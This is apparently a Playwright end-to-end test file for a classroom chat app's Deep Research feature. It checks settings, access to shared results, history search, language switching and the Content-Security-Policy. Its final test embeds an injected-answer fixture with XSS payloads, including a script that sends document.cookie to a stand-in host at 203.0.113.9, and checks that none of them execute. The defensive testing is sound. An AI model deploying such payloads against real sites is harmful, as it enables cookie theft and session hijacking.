"""The other pages in a real browser: channel settings, the shareable result page and who may see
it, the history, the language switch, and the Content-Security-Policy against an injected answer."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from channels_app.models import Channel
from tests.e2e.conftest import shot
from tests.support.research_fixtures import stored_research

pytestmark = [pytest.mark.browser, pytest.mark.slow]


def test_the_teacher_turns_deep_research_off_and_the_button_disappears_for_students(open_as, personas, llm):
    student = open_as(personas.student)
    student.goto(f"/channels/{personas.channel.slug}/")
    expect(student.locator("#dr-toggle")).to_be_visible()

    teacher = open_as(personas.teacher)
    teacher.goto(f"/channels/{personas.channel.slug}/")
    teacher.get_by_role("link", name="頻道設定").click()
    expect(teacher.locator("h2")).to_have_text("6. Deep Research（深度研究模式）")
    threshold = teacher.locator("#id_auto_suggest_threshold")
    teacher.watch.expect_status(400, "/settings/")  # the refused value comes back with its message
    threshold.fill("1.5")
    teacher.get_by_role("button", name="儲存").click()
    expect(teacher.locator(".field.has-error .error")).to_have_text("門檻不可大於 1。")
    assert Channel.objects.get(pk=personas.channel.pk).deep_research_enabled is True  # nothing saved
    shot(teacher, "settings-error")

    teacher.locator("#id_deep_research_enabled").uncheck()
    threshold.fill("0.8")
    teacher.get_by_role("button", name="儲存").click()
    expect(teacher.locator(".message.success")).to_have_text("設定已儲存。")
    channel = Channel.objects.get(pk=personas.channel.pk)
    assert (channel.deep_research_enabled, channel.auto_suggest_threshold) == (False, 0.8)

    student.reload()
    expect(student.locator("#send")).to_be_visible()
    expect(student.locator("#dr-toggle")).to_have_count(0)
    expect(student.locator("#dr-quota")).to_have_count(0)

    student.watch.expect_status(404, "/settings/")
    response = student.goto(f"/channels/{personas.channel.slug}/settings/")
    assert response.status == 404


def test_the_result_page_is_shared_with_the_teacher_and_hidden_from_other_students(open_as, personas, llm):
    task = stored_research(personas.student, personas.channel, question="學習分析如何支持課程設計？")
    path = f"/deep_research/task/{task.task_uuid}"

    owner = open_as(personas.student)
    owner.goto(path)
    expect(owner.locator("h1")).to_have_text("Deep Research 研究結果")
    expect(owner.locator(".question")).to_have_text("學習分析如何支持課程設計？")
    expect(owner.locator(".dr-answer .citation")).to_have_count(2)
    expect(owner.locator(".plan li")).to_have_text(["What is learning analytics? (search_channel_materials)"])
    copy = owner.locator("[data-action=copy-link]")
    expect(copy).to_be_visible()
    copy.click()
    expect(owner.locator("[data-role=copy-status]")).to_have_text("已複製連結。")
    assert owner.evaluate("navigator.clipboard.readText()") == owner.url
    with owner.expect_download() as download:
        owner.get_by_role("link", name="下載 Markdown").click()
    text = open(download.value.path(), encoding="utf-8").read()
    assert "Learning analytics studies learner data [1]" in text
    assert "1. Learning analytics overview — <https://docs.example/la>" in text
    shot(owner, "result-page", full_page=True)

    teacher = open_as(personas.teacher)
    assert teacher.goto(path).status == 200
    expect(teacher.locator(".dr-answer")).to_be_visible()
    expect(teacher.locator("[data-action=acknowledge]")).to_have_count(0)  # only the asker acknowledges

    other = open_as(personas.other_student)
    other.watch.expect_status(404, path)
    assert other.goto(path).status == 404
    assert other.goto(f"{path}/answer.md").status == 404


def test_my_history_filters_by_status_and_opens_the_result(open_as, personas, llm):
    stored_research(personas.student, personas.channel, question="已完成的研究")
    stored_research(personas.student, personas.channel, question="取消了的研究", status="cancelled")
    page = open_as(personas.student)
    page.get_by_role("link", name="我的研究").click()
    expect(page.locator(".history-row")).to_have_count(2)
    page.select_option("select[name=status]", "cancelled")
    page.get_by_role("button", name="顯示").click()
    expect(page.locator(".history-row")).to_have_count(1)
    expect(page.locator(".history-row")).to_contain_text("取消了的研究")
    page.locator(".history-link").click()
    expect(page.locator(".dr-status.status-cancelled")).to_be_visible()


def test_my_history_searches_the_students_own_questions(open_as, personas, llm):
    stored_research(personas.student, personas.channel, question="布魯姆分類法的六個層次")
    stored_research(personas.student, personas.channel, question="學習分析的倫理")
    stored_research(personas.other_student, personas.channel, question="布魯姆分類法與評量")  # not hers
    page = open_as(personas.student)
    page.goto("/deep_research/my")
    expect(page.locator(".history-row")).to_have_count(2)
    page.get_by_label("問題包含").fill("布魯姆")
    page.get_by_role("button", name="顯示").click()
    expect(page.locator(".history-row")).to_have_count(1)
    expect(page.locator(".history-row")).to_contain_text("布魯姆分類法的六個層次")
    expect(page.get_by_label("問題包含")).to_have_value("布魯姆")  # the search stays in the box
    page.get_by_label("問題包含").fill("評量")
    page.get_by_role("button", name="顯示").click()
    expect(page.locator(".history")).to_contain_text("你的問題中沒有包含「評量」的。")


def test_the_language_switch_changes_the_interface_to_english_and_back(open_as, personas, llm):
    page = open_as(personas.student)
    page.goto(f"/channels/{personas.channel.slug}/")
    expect(page.locator("#send")).to_have_text("送出")
    expect(page.locator("html")).to_have_attribute("lang", "zh-hant")
    page.select_option("select[name=language]", "en")  # submits itself (static script, no inline handler)
    expect(page.locator("#send")).to_have_text("Send")
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.locator("#message")).to_have_attribute("placeholder", "Ask a question about the course…")
    expect(page.get_by_role("link", name="My research")).to_be_visible()
    expect(page.locator("#dr-quota")).to_have_text("20 of 20 left today")
    assert page.url.endswith(f"/channels/{personas.channel.slug}/")
    shot(page, "chat-english")
    page.select_option("select[name=language]", "zh-hant")
    expect(page.locator("#send")).to_have_text("送出")


INJECTED = """## Answer

Looks harmless [1]. ![tracking pixel](http://203.0.113.9/pixel.png)

<img src="http://203.0.113.9/raw.png" onerror="document.title='pwned'">

<script>document.title = 'pwned'; fetch('http://203.0.113.9/steal?c=' + document.cookie)</script>

[click me](javascript:document.title='pwned') and [a real source](https://docs.example/la)
"""


def test_an_injected_answer_loads_nothing_from_elsewhere_and_runs_nothing(open_as, personas, llm):
    task = stored_research(personas.student, personas.channel, answer=INJECTED)
    page = open_as(personas.student)
    for path in (f"/channels/{personas.channel.slug}/", f"/deep_research/task/{task.task_uuid}"):
        response = page.goto(path)
        policy = response.headers["content-security-policy"]
        assert (
            "default-src 'self'" in policy
            and "script-src 'self'" in policy
            and "img-src 'self' data:" in policy
        )
        body = page.locator(".answer-body")
        expect(body).to_contain_text("Looks harmless")
        expect(body.locator("img, script")).to_have_count(0)
        expect(body.locator("a")).to_have_count(
            2
        )  # the citation and the real source; javascript: lost its link
        assert body.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))") == [
            f"#cite-{task.task_uuid.hex[:12]}-1",
            "https://docs.example/la",
        ]
        page.wait_for_load_state("networkidle")
        assert page.title() != "pwned"
        assert page.watch.foreign_requests == []
